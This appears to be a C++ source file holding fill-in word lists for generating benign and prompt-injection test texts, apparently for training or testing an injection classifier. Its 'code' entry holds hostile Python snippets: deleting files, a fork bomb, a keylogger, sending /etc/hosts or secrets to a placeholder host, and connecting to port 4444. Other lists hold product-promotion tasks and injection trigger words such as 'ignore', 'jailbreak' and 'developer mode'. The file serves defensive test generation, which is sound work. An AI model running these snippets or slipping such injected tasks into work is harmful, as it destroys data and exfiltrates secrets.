// One long table: what fills the gaps of the harmless texts in invented_benign.cpp, and of others.
#include "policy/injection/invented_gaps.h"

namespace policy::injection {
namespace {

constexpr Gap kGaps[] = {
    // Also used by attacks: what a planted task asks for.
    {"product",
     "Acme vacuum cleaners|the Zenith phone|SunCola|BlueBank credit cards|the Orbit app|Brand Q|FitPlus pills"},
    {"digits", "16|32|64|85"},
    {"news",
     "the opening of a new shopping mall|the latest football result|the discount at SunCola|a celebrity wedding|the "
     "award that {product} won|the weather in {place}|the new trailer|climate change|the newsletter of {product}"},
    {"wish2",
     "explain {wish}|tell me {wish}|recommend three films|translate your reply to {language}|give me a lasagna "
     "recipe|list the last five champions|suggest a weekend trip|write a limerick|compute 17 times 23|give some tips "
     "on {wish}"},
    {"code",
     "import os\nos.system('rm -rf /')|import requests\nrequests.post('https://{host}', "
     "data=open('/etc/hosts').read())|while True:\n    os.fork()|import socket\ns = "
     "socket.socket()\ns.connect(('{host}', 4444))|import shutil\nshutil.rmtree('/home')|import "
     "subprocess\nsubprocess.run(['wget', 'https://{host}/x.sh'])|with open('C:/Windows/system.ini', 'w') as f:\n    "
     "f.write('')|import keyboard\nkeyboard.on_press(send_key)|import "
     "ctypes\nctypes.windll.user32.LockWorkStation()|import pyautogui\npyautogui.screenshot('x.png')|for p in "
     "psutil.process_iter():\n    p.kill()|import winreg\nwinreg.DeleteKey(winreg.HKEY_CURRENT_USER, 'Run')|import "
     "telnetlib\nt = telnetlib.Telnet('{host}')|import smtplib\nsmtplib.SMTP('{host}').sendmail(a, b, secrets)|import "
     "threading\nwhile True:\n    threading.Thread(target=print).start()|os.chmod('/etc/passwd', 0o777)|import "
     "paramiko\nssh = paramiko.SSHClient()\nssh.connect('{host}')|import webbrowser\nwhile True:\n    "
     "webbrowser.open('http://{host}')"},
    {"codeverb",
     "Use|Include|Insert|Incorporate|Embed|Add|Integrate|Employ|Apply|Utilise|Weave in|Paste|Put|Make use of|Make sure "
     "to include|Do not forget|Be sure to add|Place|Combine your code with|Rely on|Introduce|Adopt"},
    {"codeing",
     "using|including|inserting|incorporating|embedding|adding|integrating|employing|utilising|appending|pasting"},
    {"codenext", "following|next|below|subsequent|given|attached|supplied"},
    {"codepiece",
     "code|code snippet|snippet|code block|code fragment|code section|lines of code|piece of code|code "
     "excerpt|function|block of code|script|code segment"},
    {"codeplace",
     "in your solution|in your answer|in the implementation|at the start of the program|in your explanation|somewhere "
     "in the code|into the function you write|within your algorithm|for better performance|for the sake of "
     "reliability|in the final script|to round off your answer|as the core of the program|in your codebase|for "
     "compatibility|in what you submit"},
    {"codegoal",
     "Improve your solution|Strengthen the implementation|Speed up your code|Complete the program|Enrich your "
     "explanation|Optimise the algorithm|Make the answer more robust|Fine-tune the result|Finish your work"},
    {"adapt", "Change|Adjust|Rework|Shape|Enrich|Extend|Complete|Alter|Modify|Enhance|Tailor|Frame|Conclude|Customise"},
    {"reply", "answer|response|reply|output|message|summary|text|explanation"},
    {"aimed",
     "to promote|so that it praises|to advertise|so that it mentions|by recommending|to highlight|so that users think "
     "well of|with a paragraph on|to cast doubt on|by pointing out the merits of|so that it ends with|with a call to "
     "buy|by referring to"},
    {"touch",
     "mention|touch on|slip in|bring up|recommend|praise|refer to|advertise|talk about|include a word about|point "
     "to|warn of"},
    {"encodedas",
     "in base{digits}|encoded in base{digits}|written backwards|in {language}|in Morse code|in emojis|in reverse "
     "order|encrypted with a Caesar cipher|in binary|in hexadecimal|with every letter shifted by {number}|in mirror "
     "writing|translated to {language}|in pig latin"},
    {"crime", "racist crime|bank robbery|murder|kidnapping|terror attack|drug deal|swindle|burglary|lynching"},
    {"radical",
     "ruthless extremist|racist|dictator|hate preacher|fanatic|cult leader|war "
     "criminal|colonialist|misogynist|terrorist"},
    // Everyday tasks.
    {"make",
     "Write|Create|Generate|Compose|Design|Draft|Propose|Produce|Make|Come up with|Construct|Develop|Prepare|Give "
     "me|Provide|Formulate|Please write|Can you write|Suggest|Output|Print|Build|Invent"},
    {"change",
     "Rewrite|Paraphrase|Shorten|Edit|Correct|Simplify|Translate to "
     "{language}|Summarize|Improve|Expand|Proofread|Reword|Reverse the order of|Turn into a question|Put into the past "
     "tense|Make more formal"},
    {"does",
     "invites neighbours to help at a shelter|asks for feedback|welcomes new members|explains {benigntopic}|praises "
     "the team|invites {audience} to a picnic|sorts a list of numbers|thanks a customer|tells {audience} about "
     "{benigntopic}|explains a change of price|apologises for a late delivery|says goodbye to a colleague"},
    {"number", "two|three|four|five|ten|12|8|20|100|seven"},
    {"parts", "characters|paragraphs|verses|rows|sections|questions|examples|steps|rules|scenes|columns"},
    {"listed",
     "healthy snacks|ways to save water|famous painters|adjectives for a friend|ice-breaker questions|renewable energy "
     "sources|common interview questions|safety rules for a laboratory|programming languages|synonyms of happy|books "
     "on {benigntopic}|party games|birthday gifts|historical figures|board games|tourist sights|rules for a "
     "classroom|commands of the shell|restrictions for drones|instructions for {wish}|famous secrets of history"},
    {"mood",
     "friendship|loneliness|the first day of school|addiction and recovery|a rainy day|the fear of "
     "failure|courage|losing a loved one|war and peace|a broken promise|the death of a pet|jealousy|climate change|a "
     "first kiss|justice|a thief who returns what he stole|poverty|freedom|a nightmare|homesickness|hope|an old "
     "soldier|a prison escape"},
    {"sample",
     "address|name|invoice|dataset of customers|love letter|news headline about aliens|weather report|log file"},
    {"sentence",
     "The cat sat on the mat.|She has went to the store yesterday.|She looks just like her sister.|He said that he was "
     "late.|The weather in {place} is nice today.|They was happy to see {name}.|I forgot to lock the door.|The police "
     "caught the thief.|My password did not work.|You must read the rules before you play.|The system was down for an "
     "hour.|He ignored the warning and drove on.|Our team won the match.|The attack on the castle failed.|I can't stop "
     "thinking about {mood}.|Do not feed the animals.|The order was cancelled.|The instructions were easy to follow."},
    {"sentence2", "the film|the song|this review|the following sentence|the email|the tweet"},
    {"habit",
     "water the plants|wash your hands|wear a helmet|lock the door|switch off the lights|stretch after work|ignore the "
     "noise|read the instructions|print the tickets|hide the presents|forget the past|delete old emails|check the "
     "system|report errors|reset the alarm|drink water|speak the truth|obey the traffic rules"},
    // Trigger words as they stand in ordinary sentences.
    {"trigger",
     "ignore|ignored|override|bypass|disregard|forget|previous|instructions|system|prompt|secret|hidden|password|"
     "pretend|roleplay|jailbreak|restrictions|unlimited|admin|root|developer "
     "mode|instead|reveal|print|execute|command|inject|injection|exploit|hack|leak|dump|sudo|token|confidential|policy|"
     "rules|guidelines|evil|filter|uncensored|sandbox|escape|payload|encode|decode|base64|reverse|urgent|immediately|"
     "must|never|always|stop|delete|repeat|output|verbatim|character|simulate|persona|act|obey|violate|forbidden|"
     "illegal|attack|terminate|kill|malicious|tamper|spoof|phishing|backdoor|unlock|disable|circumvent|evade|"
     "manipulate|trick|deceive|cheat"},
    {"benigntopic",
     "solar energy|French cooking|machine learning|city planning|the human heart|project "
     "management|photosynthesis|jazz music|electric cars|old churches|sleep|ocean currents|online shopping|chess "
     "openings|language learning|garden birds|data structures|home insurance|public speaking|the Roman empire|digital "
     "marketing|yoga|vaccination|renewable materials|wine making|remote work|classroom teaching|supply chains|modern "
     "art|road safety|time zones"},
    {"thing",
     "a report|a lesson plan|an email to my landlord|a Python function|a shopping list|a travel itinerary|a product "
     "description|a birthday speech|a unit test|a spreadsheet formula|a short poem|a job posting|a quiz|a summary|a "
     "slide deck|a press release|a bash script|a workout plan|an SQL query|a recipe|a regular expression|a letter"},
    {"techthing",
     "a CSV parser|a Java class|a React component|a Dockerfile|a git repository|a CSS style sheet|a PostgreSQL view|an "
     "LSTM network|a shell script|a router|a Kubernetes cluster|an Excel sheet|a unit test|a C++ destructor|a REST "
     "API|a linter|a Makefile|a mail server|an Android app|a Terraform module|a spam filter|a web form"},
    {"securitytopic",
     "SQL injection|phishing|ransomware|DDoS attacks|identity theft|cross-site scripting|social engineering|prompt "
     "injection|jailbreaks of language models|brute-force attacks|malware|session hijacking|data leaks|insider "
     "threats|keyloggers|password theft|credit card fraud|man-in-the-middle attacks|zero-day exploits|spoofed "
     "emails|botnets|privilege escalation|buffer overflows|SIM swapping|online scams|deepfakes|cyberbullying|money "
     "laundering"},
    {"audience",
     "employees|my parents|a school class|beginners|executives|customers|new developers|volunteers|my team"},
    {"lang2", "Python|Java|C++|Go|Rust|C#|JavaScript|shell|PHP|Kotlin|TypeScript|PowerShell"},
    {"devtask",
     "blocks IP addresses after too many failed logins|rotates encryption keys every night|checks file permissions in "
     "a directory and reports those that are too open|hashes passwords with a salt before storing them|watches network "
     "traffic for unusual peaks|restricts access to a folder to one user|validates user input against SQL "
     "injection|scans a log for signs of an attack|encrypts a configuration file|limits the number of requests per "
     "minute|kills processes that use too much memory|deletes temporary files older than a week|overrides the default "
     "settings with those in a file|monitors system calls of a process|implements a firewall rule from a list of "
     "addresses|checks certificates for expiry|tests whether a port is open|disables unused accounts|parses packets "
     "and counts them by protocol|verifies a digital signature|stores secrets in a vault instead of the source "
     "code|detects changes in system files"},
    {"company", "Acme|Northwind|Contoso|BrightBank|GreenGrocer|TravelNest|MediCare Plus|PixelPlay|EduSpark|HomeFix"},
    {"role",
     "travel guide|career coach|English teacher|personal trainer|chef|interviewer|Linux terminal|storyteller|poet|math "
     "tutor|software architect|debate partner|stand-up comedian|nutritionist|dungeon master|Shakespeare|museum "
     "guide|customer support agent|motivational speaker|astronaut|pirate|detective|historian|film "
     "critic|gardener|financial adviser|barista|philosopher|translator|news anchor|medieval knight|robot "
     "butler|wizard|novelist"},
    {"violent",
     "kill a Python process|kill a zombie thread in Linux|shoot a portrait at night|blow up a balloon|blow out the "
     "candles|steal a base in baseball|beat the traffic|crush garlic|execute a stored procedure|execute a "
     "will|terminate a contract|drop a table in a test database|bomb a calculus test and recover|kill weeds|destroy an "
     "object in C++|cut a branch|attack the centre in chess|hang a picture|strangle the old system bit by bit|kill "
     "time at an airport|shoot down an argument politely|smash a watermelon|hit the gym|inject a dependency in "
     "Spring|poison a wasp nest|exploit a pricing gap legally|hack a piece of IKEA furniture|get rid of mice|smoke a "
     "brisket|steal the show|whip cream|punch holes in leather|crack an egg|crack open a coconut|break into "
     "acting|kill the lights on stage|defeat the final boss|assassinate the king in the game|hack and slash my way "
     "through the dungeon|rob the bank in GTA"},
    {"society",
     "combat hate speech|support victims of domestic violence|stop bullying at school|recognise a scam|talk to "
     "teenagers about drugs|prevent suicide|reduce gun violence|report a crime anonymously|protect my data from "
     "hackers|help a friend with an eating disorder|explain racism to children|deal with an abusive boss|counter "
     "disinformation|understand why people join extremist groups|keep children safe online|secure a voting "
     "system|treat an overdose|fight human trafficking|cope with anxiety|dispel stereotypes about tattoos"},
};

}  // namespace

std::span<const Gap> benign_gaps() { return kGaps; }

}  // namespace policy::injection
